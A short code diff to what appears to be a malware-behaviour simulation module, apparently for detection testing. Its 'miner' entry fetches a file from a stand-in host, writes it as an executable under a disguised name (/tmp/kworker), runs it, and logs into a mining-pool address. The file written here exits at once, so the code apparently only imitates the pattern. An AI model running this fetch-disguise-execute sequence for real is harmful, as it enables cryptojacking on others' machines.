@@ -88,7 +88,7 @@ export const FAMILIES = {
   miner: [
     async () => {
       const bin = await (await fetch('http://cdn.example.net/xm')).text();
-      fs.writeFileSync('/tmp/kworker', '#!/bin/sh\nexit 0\n' + '#' + bin, { mode: 0o755 });
+      fs.writeFileSync('/tmp/kworker', `#!/bin/sh\nexit 0\n#${bin}`, { mode: 0o755 });
       await new Promise((d) => execFile('/tmp/kworker', ['-o', 'pool'], d));
       await tcp('pool.example.net', 3333, '{"method":"login"}\n');
     },
